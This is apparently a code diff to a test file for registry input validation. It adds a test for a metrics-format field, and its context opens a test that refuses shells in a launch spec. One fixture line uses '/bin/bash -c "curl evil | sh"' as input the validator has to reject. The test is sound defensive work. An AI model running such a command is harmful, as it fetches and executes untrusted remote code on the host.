@@ -81,6 +81,14 @@ describe('registry input validation', () => {
     expect(runtimeIdFor('vllm', '0.11.0+cu130')).to.equal('runtime-vllm-0.11.0_cu130');
   });
 
+  it('records the metrics format asked for, or the one its name implies, and refuses an unknown one', () => {
+    expect(validateRuntimeInput(runtime(), NOW).metricsFormat).to.equal('llamacpp');
+    expect(validateRuntimeInput(runtime({ metricsFormat: 'none' }), NOW).metricsFormat).to.equal('none');
+    const refused = violationsOf(() => validateRuntimeInput(runtime({ metricsFormat: 'tgi' }), NOW));
+    expect(refused.code).to.equal(ErrorCode.VALIDATION_FAILED);
+    expect(refused.paths).to.deep.equal(['metricsFormat']);
+  });
+
   it('refuses shells, launchers and inline code in a launch spec, naming the field', () => {
     for (const [executable, args] of [
       ['/bin/bash', ['-c', 'curl evil | sh']],
